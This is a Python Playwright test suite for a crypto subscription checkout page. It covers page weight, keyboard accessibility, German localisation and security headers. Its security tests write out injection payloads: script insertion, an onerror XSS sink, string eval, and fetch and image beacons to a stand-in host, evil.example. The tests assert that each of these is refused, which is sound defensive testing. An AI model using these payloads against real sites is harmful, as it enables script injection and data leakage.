"""The checkout page is light, safe, and for everybody (U1, U2, U5, S8)."""

import gzip
from urllib.parse import urlsplit

import httpx
import pytest

from tests import factories
from tests.api.test_settings_api import ICON
from tests.web.conftest import Person
from tests.web.shop import CONFIRMATIONS

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.xdist_group("browser")]

WEIGHT_MAX = 10 * 1024
REQUESTS_OF_A_PAGE_MAX = 4


async def test_U1_SX_21_every_stage_is_light_and_from_the_merchant_s_own_address(person: Person) -> None:
    await person.fund()
    loaded: list[tuple[str, int]] = []

    async def weigh(stage: str, url: str) -> None:
        context = await person.context.browser.new_context()  # type: ignore[union-attr]
        page = await context.new_page()
        answers = []
        page.on("response", lambda answer: answers.append(answer))  # noqa: PLW0108 - it looks inside what it is given
        await page.goto(url)
        await page.wait_for_timeout(300)
        weight = 0
        for answer in answers:
            assert urlsplit(answer.url).netloc == urlsplit(person.shop.url).netloc
            if not answer.url.endswith("/events"):
                assert answer.headers["content-encoding"] == "gzip"
                weight += len(gzip.compress(await answer.body(), 9))
        assert len(answers) <= REQUESTS_OF_A_PAGE_MAX
        loaded.append((stage, weight))
        print(f"checkout, {stage}: {weight} bytes gzip in {len(answers)} requests")
        await context.close()

    fresh = await person.shop.session()
    await weigh("details", fresh["url"])
    asked = await person.shop.session(customer_email="ada@example.com")
    await weigh("wallet", asked["url"])
    connected = await person.at_consent()
    await weigh("consent", connected["url"])
    await person.agree()
    await person.sees("Thank you")
    await weigh("progress", connected["url"])
    assert max(weight for _, weight in loaded) <= WEIGHT_MAX


async def test_S8_injected_scripts_sinks_and_leaks_are_blocked(person: Person) -> None:
    session = await person.shop.session(customer_email="ada@example.com")
    answer = await person.page.goto(session["url"])
    assert answer is not None
    headers = answer.headers
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert headers["cross-origin-opener-policy"] == "same-origin-allow-popups"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cache-control"] == "no-store"
    assert "set-cookie" not in headers
    hurt = """async () => {
        const outcome = {};
        const script = document.createElement("script");
        try { script.textContent = "window.hurt = 1"; document.body.append(script); }
        catch { outcome.text = "refused"; }
        try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hurt = 2'>"); }
        catch { outcome.sink = "refused"; }
        try { setTimeout("window.hurt = 3"); } catch { outcome.eval = "refused"; }
        try { await fetch("https://evil.example/?" + location.pathname); } catch { outcome.leak = "refused"; }
        const image = new Image();
        image.src = "https://evil.example/?" + location.pathname;
        outcome.image = await new Promise((done) => {
            image.onerror = () => done("refused");
            image.onload = () => done("");
        });
        await new Promise((done) => setTimeout(done, 100));
        outcome.hurt = window.hurt ?? null;
        return outcome;
    }"""
    assert await person.page.evaluate(hurt) == {
        "text": "refused",
        "sink": "refused",
        "eval": "refused",
        "leak": "refused",
        "image": "refused",
        "hurt": None,
    }


async def test_a_merchant_s_words_cannot_become_markup(person: Person) -> None:
    nasty = "</script><script>window.hurt=1</script><b onmouseover=x>"
    asked = [{"key": "x", "type": "text", "label": {"custom": nasty[:100]}}]
    session = await person.shop.session(custom_fields=asked)
    await person.page.goto(session["url"])
    await person.page.get_by_text("<b onmouseover").wait_for()
    assert await person.page.evaluate("window.hurt ?? null") is None


@pytest.mark.parametrize("headers", [{"Sec-Fetch-Site": "cross-site"}, {"Origin": "https://evil.example"}, {"X": "y"}])
async def test_nobody_else_s_page_can_act_for_the_payer(person: Person, headers: dict[str, str]) -> None:
    session = await person.shop.session(customer_email="ada@example.com")
    for step in ("wallet", "forget", "sign", "again", "details"):
        answer = await person.shop.post(f"{session['url']}/{step}", {}, **headers)
        assert answer.status_code == 403
    async with httpx.AsyncClient() as client:
        assert (await client.get(session["url"])).status_code == 200


@pytest.mark.parametrize(
    ("step", "body"),
    [
        ("wallet", {"address": "0x12", "chain_id": 31337, "token": "0x34"}),
        ("wallet", {"address": factories.PAYEE, "chain_id": 1, "token": factories.TOKEN}),
        ("wallet", {"nonsense": 1}),
        ("sign", {"signature": "0x1234"}),
        ("sign", {"signature": "no hex"}),
        ("sign", {}),
    ],
)
async def test_what_no_page_sends_is_told_and_changes_nothing(
    person: Person, step: str, body: dict[str, object]
) -> None:
    session = await person.shop.session(customer_email="ada@example.com")
    before = await person.shop.found(f"/v1/checkout/sessions/{session['id']}")
    answer = await person.shop.post(f"{session['url']}/{step}", body)
    assert answer.status_code in {409, 422}
    assert answer.json()["message"]
    assert await person.shop.found(f"/v1/checkout/sessions/{session['id']}") == before


async def test_U5_the_whole_way_by_keyboard_alone(person: Person) -> None:
    await person.fund()
    session = await person.shop.session()
    await person.page.goto(session["url"])
    keys = person.page.keyboard

    async def press_on(name: str) -> None:
        """Go on with Tab until the control of this name has the focus, then press Enter."""
        for _ in range(20):
            await keys.press("Tab")
            found = await person.page.evaluate("document.activeElement.innerText || document.activeElement.id")
            if name in found:
                await keys.press("Enter")
                return
        raise AssertionError(f"Tab does not reach {name}")

    for _ in range(3):
        await keys.press("Tab")
        if await person.page.evaluate("document.activeElement.id") == "email":
            break
    await keys.type("ada@example.com")
    await press_on("Continue")
    await person.sees("Connect your wallet")
    assert await person.page.evaluate("document.activeElement.id") == "h"  # a screen reader begins at the heading
    await press_on("Connect Test Wallet")
    await person.sees("What you agree to")
    await press_on("Agree and subscribe")
    await person.sees("Thank you")


async def test_in_german_with_a_trial_and_the_merchant_s_colour(person: Person) -> None:
    shop = person.shop
    await person.fund()
    await shop.made("/v1/account/settings", {"branding": {"color": "#ffd400", "name": "Adas Almanach", "icon": ICON}})
    try:
        session = await shop.session(
            customer_email="ada@example.com", locale="de", subscription_data={"trial_period_days": 14}
        )
        await person.page.goto(session["url"])
        await person.sees("Verbinden Sie Ihre Wallet")
        assert await person.page.locator("header img").get_attribute("src") == ICON
        await person.page.get_by_role("button", name="Test Wallet verbinden").click()
        await person.sees("Wozu Sie zustimmen")
        await person.page.get_by_text("wird nichts eingezogen").wait_for()
        await person.look("05-consent-german-trial")
        await person.page.get_by_role("button", name="Zustimmen und abonnieren").click()
        await person.sees("Danke")
        await shop.work()
        await shop.work(blocks=CONFIRMATIONS)
        await person.sees("Sie haben abonniert")
        await person.page.get_by_role("button", name="Hier bleiben").click()
        await person.page.get_by_text("Es wurde nichts abgebucht. Ihre Probezeit läuft bis").wait_for()
        await person.look("15-done-german-trial")
    finally:
        await shop.made("/v1/account/settings", {"branding": {"color": "", "name": "", "icon": ""}})


async def test_SX_11_another_wallet_for_a_subscription_by_its_own_page(person: Person) -> None:
    shop = person.shop
    await person.fund()
    await person.signed()
    await shop.work()
    await shop.work(blocks=CONFIRMATIONS)
    await person.sees("You are subscribed")
    bought = (await shop.found("/v1/checkout/sessions?limit=1"))["data"][0]["subscription"]
    session = await shop.made(
        "/v1/checkout/sessions", {"mode": "setup", "subscription": bought, "success_url": f"{shop.url}/healthz"}
    )
    await person.page.goto(session["url"])
    await person.connect("USDT")
    await person.page.get_by_text("Your subscription goes on as it is").wait_for()
    await person.page.get_by_role("button", name="Agree and use this wallet").click()
    await person.sees("Your wallet is being set up")
    await shop.work()
    await shop.work(blocks=CONFIRMATIONS)
    await person.sees("Your wallet is set up")
    await person.page.wait_for_url("**/healthz")  # by itself, some seconds later
    assert (await shop.found(f"/v1/checkout/sessions/{session['id']}"))["status"] == "complete"


async def test_two_tabs_of_one_session_end_in_the_same_subscription(person: Person) -> None:
    await person.fund()
    session = await person.at_consent()
    first = person.page
    person.page = await person.opened(equipped=True)
    await person.page.goto(session["url"])
    await person.agree()
    await person.sees("Thank you")
    person.page = first
    await person.agree()
    await person.sees("Thank you")
    done = await person.shop.found(f"/v1/checkout/sessions/{session['id']}")
    assert done["subscription"] is not None
